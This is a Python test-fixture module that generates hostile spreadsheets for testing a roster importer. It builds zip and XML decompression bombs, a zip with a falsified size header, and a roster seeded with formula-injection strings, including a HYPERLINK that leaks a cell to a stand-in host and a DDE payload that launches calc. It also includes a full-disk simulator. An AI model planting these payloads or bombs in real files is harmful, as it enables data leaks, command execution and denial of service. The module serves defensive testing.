"""Hostile spreadsheets made on the spot, never kept as binaries: each generator writes one kind of bad
file to a path, streaming its big part into the zip so that neither it nor the test holds that part whole;
and a full disk (full_disk) for the files the program writes. Used by tests/test_hostile_files.py and
bench/bench_hostile.py."""
from __future__ import annotations

import builtins
import contextlib
import datetime as dt
import errno
import io
import os
import random
import zipfile
from pathlib import Path

import openpyxl

HEADERS = ["STT", "Họ và tên", "Ngày sinh", "Giới tính", "Ngày vào Đảng", "Số thẻ ĐV", "Nơi cư trú", "Ghi chú"]
ROWS = [[1, "Nguyễn Văn Một", "02/03/1970", "Nam", "04/05/1995", "12345678", "thôn Đông", ""]]
SHARED_STRINGS = "xl/sharedStrings.xml"
_SHARED_STRINGS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
MB = 1024 * 1024
# Texts a hostile list puts in its cells (OWASP's examples): a link that leaks, and DDE that runs a program.
HYPERLINK = '=HYPERLINK("http://x.example/?leak="&B2,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
FORMULA_TEXTS = (HYPERLINK, DDE, "+84912345678", "-2+3", "@SUM(1+1)", "'=đã có dấu nháy", "''+hai dấu nháy")


def roster_parts(rows: list[list] | None = None, text_cells: bool = True) -> dict[str, bytes]:
    """The parts of a small valid roster workbook as openpyxl writes it; every text a string cell."""
    book = openpyxl.Workbook()
    sheet = book.active
    for r, row in enumerate([HEADERS, *(ROWS if rows is None else rows)], start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(row=r, column=c, value=value)
            if text_cells and isinstance(value, str):
                cell.data_type = "s"  # openpyxl would make a text beginning with = a formula
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _write(path: Path, parts: dict[str, bytes], flood: tuple[str, bytes, bytes, bytes, int] | None = None,
           level: int = 9, declared: int | None = None) -> Path:
    """parts zipped to path; flood = (name, head, chunk, tail, repeats): a part streamed in as head, chunk
    repeated, tail. declared: the unpacked size the zip's directory then claims for the flood."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in parts.items():
            if not flood or name != flood[0]:
                archive.writestr(name, data)
        if flood:
            name, head, chunk, tail, repeats = flood
            with archive.open(name, "w", force_zip64=True) as part:
                part.write(head)
                for _ in range(repeats):
                    part.write(chunk)
                part.write(tail)
            if declared is not None:
                archive.getinfo(name).file_size = declared  # the central directory written on close lies
    return path


def _split(data: bytes, marker: bytes) -> tuple[bytes, bytes]:
    at = data.index(marker)
    return data[:at], data[at:]


def _with_shared_strings(parts: dict[str, bytes]) -> dict[str, bytes]:
    """The parts with sharedStrings.xml declared, so openpyxl reads it (its content comes in the flood)."""
    types = parts["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/{SHARED_STRINGS}" ContentType="{_SHARED_STRINGS_TYPE}"/></Types>'.encode())
    return dict(parts, **{"[Content_Types].xml": types, SHARED_STRINGS: b""})


_SST_HEAD = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def styles_bomb(path: Path) -> Path:
    """~34 KB: xl/styles.xml unpacks to ~20 MB of empty <xf/>, each of which openpyxl makes an object of."""
    parts = roster_parts()
    head, tail = _split(parts["xl/styles.xml"], b"</cellXfs>")
    return _write(path, parts, ("xl/styles.xml", head, b"<xf/>" * (MB // 5), tail, 20))


def shared_strings_bomb(path: Path) -> Path:
    """~230 KB: sharedStrings.xml unpacks to ~12 MB, under the byte bound and packed only ~57:1 (empty and
    one-letter texts at random), but holds ~3 million tags: only counting them while inflating catches it."""
    rng = random.Random(10)
    block = b"".join(b"<si><t>%s</t></si>" % rng.choice((b"", b"a")) for _ in range(20_000))
    # The block is longer than deflate's 32 KB window, so each repeat packs like the first.
    return _write(path, _with_shared_strings(roster_parts()),
                  (SHARED_STRINGS, _SST_HEAD, block, b"</sst>", 12 * MB // len(block)), level=6)


def memory_bomb(path: Path) -> Path:
    """~1.5 MB: 240 MB of shared strings, under the old 1 GB bound; openpyxl would keep 14 million strings
    and their parsed elements (several GB) before reading the first row."""
    chunk = b"<si><t>a</t></si>" * (MB // 17)
    return _write(path, _with_shared_strings(roster_parts()), (SHARED_STRINGS, _SST_HEAD, chunk, b"</sst>", 240),
                  level=1)


def lying_header(path: Path, declared: int = 2048) -> Path:
    """~34 KB: the styles flood of styles_bomb, with a directory claiming it unpacks to `declared` bytes."""
    parts = roster_parts()
    head, tail = _split(parts["xl/styles.xml"], b"</cellXfs>")
    return _write(path, parts, ("xl/styles.xml", head, b"<xf/>" * (MB // 5), tail, 20), declared=declared)


def formula_roster(path: Path) -> Path:
    """A roster whose cells hold FORMULA_TEXTS as texts, plus one real formula cell (with the value Excel
    cached for it) in the notes of the last row."""
    rows = [[i, f"Trần Văn {name}", f"0{i}/03/1970", "Nam", "04/05/1995", f"1000000{i}", text, text]
            for i, (name, text) in enumerate(zip(("Một", "Hai", "Ba", "Bốn", "Năm", "Sáu", "Bảy"), FORMULA_TEXTS),
                                             start=1)]
    rows.append([8, "Trần Văn Tám", "08/03/1970", "Nam", "04/05/1995", "10000008", "thôn Đông", "ô công thức"])
    parts = roster_parts(rows)
    sheet = parts["xl/worksheets/sheet1.xml"]
    cell = sheet[sheet.index(b'<c r="H9"'):]
    cell = cell[:cell.index(b"</c>") + 4]
    formula = b'<c r="H9" t="str"><f>HYPERLINK("http://x.example","y")</f><v>y</v></c>'
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(cell, formula)
    return _write(path, parts)


FIVE_MEMBERS = [[i, f"Phạm Văn {name}", f"0{i}/04/1971", "Nam", "04/05/1996", f"2000000{i}", "thôn Tây", ""]
                for i, name in enumerate(("Một", "Hai", "Ba", "Bốn", "Năm"), start=1)]


def lying_dimension(path: Path, ref: str = "A1:F2") -> Path:
    """FIVE_MEMBERS under the headers, in a sheet whose <dimension> claims `ref` instead of A1:H6: smaller
    (A1:F2, as an edited or badly written file says) or far larger (A1:XFD1048576) than what it holds."""
    parts = roster_parts(FIVE_MEMBERS)
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert b'<dimension ref="A1:H6" />' in sheet
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b'<dimension ref="A1:H6" />', f'<dimension ref="{ref}" />'.encode())
    return _write(path, parts)


def large_roster(path: Path, count: int = 10_000) -> Path:
    """A legitimate list of `count` members with many columns filled, as a secretary's big list looks."""
    rng = random.Random(7)
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(["ĐẢNG BỘ XÃ HÒA BÌNH"])
    sheet.append([])
    sheet.append([*HEADERS, "Quê quán", "Nghề nghiệp", "Số CCCD", "Điện thoại", "Dân tộc", "Tôn giáo"])
    for i in range(count):
        birth = dt.date(1940, 1, 1) + dt.timedelta(days=(i * 7919) % 21900)
        admitted = dt.date(birth.year + rng.randint(19, 40), birth.month, min(birth.day, 28))
        sheet.append([i + 1, f"Nguyễn {rng.choice(('Văn', 'Thị', 'Đức'))} Người {i}", birth,
                      rng.choice(("Nam", "Nữ")), min(admitted, dt.date(2025, 1, 1)), str(10_000_000 + i),
                      f"xóm {i % 40}, thôn Đông, xã Hòa Bình", "Chuyển sinh hoạt đến từ Đảng bộ phường Tân An",
                      "xã Hòa Bình", "nông dân", f"0{rng.randint(10 ** 10, 10 ** 11 - 1)}",
                      f"09{rng.randint(10 ** 7, 10 ** 8 - 1)}", "Kinh", "Không"])
    book.save(path)
    return path


# --- a full disk ------------------------------------------------------------------------------------


@contextlib.contextmanager
def full_disk(folder: Path, room: int):
    """Files opened for writing in folder (by open, io.open or Path.open, as zipfile, openpyxl, reportlab
    and csv do) behave as on a disk with `room` bytes free: what is written past it fails with ENOSPC when
    it reaches the disk, as the OS does, part of a write first. Files already open stay on that disk."""
    left = [room]
    real_open = builtins.open
    folder = Path(folder).resolve()

    class OnFullDisk(io.FileIO):
        def write(self, data):
            if not left[0]:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            written = super().write(memoryview(data).cast("B")[:left[0]])
            left[0] -= written
            return written

    def fake_open(file, mode="r", buffering=-1, encoding=None, errors=None, newline=None, closefd=True, opener=None):
        if not isinstance(file, (str, os.PathLike)) or not set(mode) & set("wax+") \
                or Path(file).resolve().parent != folder:
            return real_open(file, mode, buffering, encoding, errors, newline, closefd, opener)
        raw = OnFullDisk(file, mode.replace("b", "").replace("t", ""), closefd=closefd, opener=opener)
        buffered = io.BufferedRandom(raw) if "+" in mode else io.BufferedWriter(raw)
        return buffered if "b" in mode else io.TextIOWrapper(buffered, encoding=encoding or "locale", errors=errors,
                                                             newline=newline)

    saved = builtins.open, io.open
    builtins.open = io.open = fake_open
    try:
        yield
    finally:
        builtins.open, io.open = saved
